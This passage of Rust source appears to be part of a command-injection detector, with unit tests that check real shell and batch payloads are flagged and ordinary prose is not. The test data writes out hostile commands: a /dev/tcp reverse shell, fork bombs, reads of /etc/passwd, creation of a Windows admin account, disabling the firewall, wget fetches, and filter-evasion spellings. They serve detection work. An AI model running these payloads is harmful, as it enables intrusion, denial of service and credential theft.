    let find = |p: &[u8]| memchr::memmem::find(&lower, p);
    if find(b"<!--#exec").is_some() || find(b"<!--#include").is_some() {
        return hit("ssi");
    }
    // `FOR ... %x IN (...) DO`: the batch loop runs whatever follows DO (`)DO` needs no
    // blank). Its tail alone is enough: a form parser cuts `& FOR /F "a=b" %%A IN ...`
    // at the `&` and the `=`.
    if let Some(f) = find(b"for ")
        && (f == 0 || !lower[f - 1].is_ascii_alphanumeric())
        && let Some(inp) = memchr::memmem::find(&lower[f..], b" in ")
        && memchr::memmem::find(&lower[f + inp..], b" do ").is_some()
        && memchr::memchr(b'%', &lower[f..f + inp]).is_some()
    {
        return hit("for");
    }
    if memchr::memchr(b'%', &lower).is_some()
        && let Some(inp) = find(b" in (").or_else(|| find(b" in("))
        && let Some(p) = memchr::memrchr(b'%', &lower[..inp])
        && lower[p..inp]
            .iter()
            .all(|c| c.is_ascii_alphanumeric() || b"%~@[_".contains(c))
        && [&b") do "[..], b")do ", b") do@", b")do@"]
            .iter()
            .any(|d| memchr::memmem::find(&lower[inp..], d).is_some())
    {
        return hit("for");
    }
    if batch_if(&lower) {
        return hit("if");
    }
    if let Some(program) = windows_admin(&lower) {
        return hit(program);
    }
    // `IF [NOT] EXIST|DEFINED|ERRORLEVEL x`: batch conditionals.
    // (`if not` alone is English: *if not now, when?*)
    for kw in [
        &b"if exist "[..],
        b"if not exist ",
        b"if not defined ",
        b"if not errorlevel ",
        b"if not \"%",
        b"if not %",
        b"if defined ",
        b"if errorlevel ",
        b"if /i ",
        b"if \"%",
        b"if %",
    ] {
        if let Some(p) = find(kw)
            && (p == 0 || !lower[p - 1].is_ascii_alphanumeric())
        {
            return hit("if");
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::detect;

    fn commands(values: &[&str]) {
        for v in values {
            assert!(detect(v.as_bytes()).is_some(), "{v:?}");
        }
    }

    fn prose(values: &[&str]) {
        for v in values {
            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
        }
    }

    /// A word that is also English, then `;`: a command when glued, last, or followed by
    /// a command line; prose after a blank is not.
    #[test]
    fn english_programs_before_a_semicolon() {
        commands(&[
            "id;",
            "id;uname",
            "time; ansible-config dump\n",
            "time; ansible all -m ping",
            "c${u}at /etc/passwd",
            ";w${x}hoami",
        ]);
        prose(&[
            "system; it is up to the author/donor to decide if he or she is willing",
            "\"History\"; likewise combine any sections Entitled \"Acknowledgements\",",
            "date; see the notes below",
        ]);
    }

    /// Brace expansions that spell a program.
    #[test]
    fn brace_expansions() {
        commands(&[
            "c{a,oun}t",
            "c{a,oun}t /etc/passwd",
            "{,$\"whoami\",}",
            "w{h,x}oami",
        ]);
        prose(&[
            "file{1,2}.txt",
            "l{s,x}",
            "{a,b}",
            "/api/{id}",
            "{\"a\":1,\"b\":2}",
            "tags={cat,dog}",
            "{\"cat\",\"dog\"}",
        ]);
    }

    /// A program's name spliced by quotes to pass a filter is a command line alone; a
    /// word quoted whole, and words with apostrophes, are not.
    #[test]
    fn spliced_names() {
        commands(&["w'h'oami", "'wh'oami", "'c'url localhost", "\"ca\"t"]);
        prose(&[
            "'whoami'",
            "\"curl\"",
            "don't",
            "O'Brien's cat",
            "the l's and i's",
        ]);
    }

    /// Markdown quotes names as code: a word at a command position only after an opening
    /// backtick, and a lone English-word program in prose is a name.
    #[test]
    fn markdown_code_spans() {
        commands(&[
            "`id`",
            "hello `id` there",
            "please run `id` for us on the box today now",
            "a`whoami`b",
            "`type` x",
            "x `sleep 5` y",
        ]);
        prose(&[
            "`type` is the type of the condition. Required.",
            "The default policy is `OrderedReady`, where pods are created. The alternative is `Parallel` which will create them",
            "with `-o context` mount option. This applies to all volumes",
            "The `host` should not refer to a service running in the cluster",
        ]);
    }

    /// Fork bombs, in their usual spellings and with the calls' `()` kept.
    #[test]
    fn fork_bombs() {
        commands(&[
            ":(){ :|:& };:",
            "cmd=:(){:|:&};:",
            "f(){ f|f& };f",
            ".(){ .|.& };.",
            "f(){ f() | f(); }; f",
            "bomb() { bomb & bomb; }; bomb",
        ]);
        prose(&[
            "render(){ return a|b }",
            "fib(n){ return fib(n - 1) + fib(n - 2) }",
            "x() {}",
            "f(){ g|g& }",
        ]);
    }

    /// A command whose output goes to a file: how commix's file-based technique reads
    /// what a page does not show. Held-out: 168 of its 10,623 payloads were missed
    /// before, all of this shape.
    #[test]
    fn output_redirected_to_a_file() {
        commands(&[
            "id > /var/www/example.com/public_html/HVQKRZ.txt",
            "\"id > /var/www/html/HVQKRZ.txt",
            "'echo HVQKRZ > /var/www/html/HVQKRZ.txt",
            "127.0.0.1&id > /var/www/html/HVQKRZ.txt",
            "echo HVQKRZ >/tmp/x",
            "whoami > C:\\temp\\o.txt",
        ]);
        prose(&[
            // A `>` that closes an HTML tag redirects nothing.
            "test <script src=\"/x.js\"></script> // Safari 5.0",
            "<b>id</b> > /x",
            "<td>date</td><td>/usr/share</td>",
            // Not a file: `/` alone, a `//` comment.
            "test x='<%' </script> %>/ alert(2)",
            "time > // later",
            // No program before it.
            "Settings > /admin",
            "score > 5",
        ]);
    }

    /// A value that opens with a lone `&` continues the application's command line.
    #[test]
    fn leading_ampersand() {
        commands(&[
            "& net user hacker Password1 /ADD",
            "& sleep 5",
            "& netsh firewall set opmode disable",
            "&ping -n 5 127.0.0.1",
            "{,ip,a}",
            "{cat,/etc/hosts}",
        ]);
        prose(&[
            "Tom & Jerry",
            "cat & dog",
            "&quot;Make is a tool&quot;",
            "Q&A: more to come",
        ]);
        prose(&["{\"cmd\": \"more\"}", "(at your option) any later version"]);
    }

    /// Windows administration as the whole value (IntruderPayloads' `command_exec`):
    /// `net` and `reg` need their subcommand and a switch or a hive; prose about nets
    /// and registers stays prose.
    #[test]
    fn windows_administration_as_the_whole_value() {
        commands(&[
            "net user hacker Password1 /ADD",
            "net localgroup Administrators hacker /ADD",
            "NET USE \\\\10.0.0.1\\c$ /user:admin x",
            "netsh firewall set opmode disable",
            "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
            "reg query HKCU\\Software",
        ]);
        prose(&[
            "net user growth was 5% /year",
            "net use of funds",
            "reg add to the list",
            "net price 40 /add-on",
        ]);
    }

    /// Command lines run through a wrapper, and bash's network redirections; prose
    /// that starts with an English wrapper stays prose.
    #[test]
    fn wrappers_and_dev_tcp() {
        commands(&[
            "nohup sh -c whoami",
            "strace sh -c whoami",
            "cpulimit -l 100 -f whoami",
            "flock -u / whoami",
            "timeout 5 ping 10.0.0.1",
            "time sh -c whoami",
            "exec 5<>/dev/tcp/8.8.8.8/80",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            // a program's absolute path with a path argument (a glob in its name)
            "/bin/ca? /et*/passwd",
        ]);
        prose(&[
            "nice cat pictures",
            "time flies like an arrow",
            "watch dir changes",
        ]);
    }

    /// What a shell does to a word before it runs it: globs spelling a system path,
    /// variables (set in the value, or unset: nothing), empty substitutions and special
    /// parameters inside a name, versioned interpreters.
    #[test]
    fn shell_expansions() {
        commands(&[
            "/???/b??h -c id",
            "/usr/[a-z]in/wget http://e.example/x",
            "q=/etc/pa[!x]swd",
            "x=cat;$x /etc/hosts",
            ";$foo wget http://e.example/a",
            "w``get http://e.example/x",
            "1;who$()ami",
            "1;who$?ami",
            "unam$x\\e -a",
            "python3.11 -c 'import os'",
        ]);
        prose(&[
            "/images/*.png",
            "/docs/[draft]/notes",
            "total: $5 & more",
            "a=b; $x is the price",
        ]);
    }

    /// What prose writes that a shell reads differently: a sentence-case word (no Unix
    /// program is `Make`), HTML references (`&quot;`), a `${NAME}` after a word.
    #[test]
    fn sentence_case_references_and_variables_are_prose() {
        prose(&[
            "Make -dev package depend on the library package.",
            "Mount /proc with -o compatible on HURD only",
            "Bug fix: \"&quot;Make is a HUGE memory hog&quot;\", thanks",
            "d/rules: stop exporting ${PYTHON}",
        ]);
        commands(&[
            "make -j4 /tmp/x",
            "Ipconfig /all",
            "1;Whoami",
            "x&#x3B;cat /etc/passwd",
            "view=a.jpg&amp;wget http://e.example/s",
            "${cmd}",
        ]);
    }

    /// Wrappers after an operator, builtins only a shell reads, sqlite3's shell escapes,
    /// shellshock, cmd.exe's loops and comparisons; the prose they resemble.
    #[test]
    fn builtins_wrappers_and_batch() {
        commands(&[
            "1;flock -u / id",
            "x|nohup who",
            "alias l=ls",
            "set -o history",
            "1;\n.system id",
            "() { :; }; /bin/id",
            "if /i \"%x%\"==\"y\" del a",
            "if (1) neq (2) echo x",
            "%%i in (*.txt) do type %%i",
            "%f in (a,b)do @echo %f",
            "IF NOT EXIST C:\\nonexistent echo hey",
            "if not defined _x echo missing",
            "IF NOT red===red echo test",
            "if not {%1} == {}",
        ]);
        prose(&[
            "If not now, when?",
            "survival is unlikely (~2% if not in a hospital)",
            "Kubernetes & Docker",
            "PHP & MySQL",
            "run `systemctl restart nginx` after the upgrade",
            "if you want == more",
            "for all in (this) do that",
            "alias of the user",
            "set off at dawn",
            "env test",
        ]);
    }

    /// A line break separates commands as `;` does (wapiti's `[VALUE][LF]env;`), and
    /// like `; ` followed by prose, a line of prose is not one.
    #[test]
    fn line_breaks_separate_commands() {
        commands(&[
            "1\nenv;",
            "1\ncat /etc/passwd",
            "x\r\nwget http://e.example/s",
            "1\nid",
        ]);
        prose(&[
            "Dear team,\nmore details follow next week",
            "Line one\ntime flies when you are having fun",
        ]);
    }

    /// A `(` or `{` after a word opens no subshell or group (sh refuses the line, or
    /// takes the braces as an argument): templates and asides are not commands, while
    /// the same words after an operator or alone still are.
    #[test]
    fn parentheses_and_braces_after_a_word() {
        commands(&[
            "(id)",
            "{id}",
            "a;(id)",
            "x&&{cat,/etc/passwd}",
            "hello (whoami)",
            "ping (cat /etc/passwd)",
        ]);
        prose(&[
            "hello world (test)",
            "see the manual (more info)",
            "/api/users/{id}",
            "report_{date}.csv",
            "1.e(ascii)",
        ]);
    }

    /// `true` and `false` run nothing: a form's flag with a line break after it is no
    /// command line, where another word that is also a program is (`id%0A`).
    #[test]
    fn no_op_words_before_a_line_break() {
        commands(&["id\n", "date;"]);
        prose(&["false\n", "true\r\n", "false"]);
    }
}
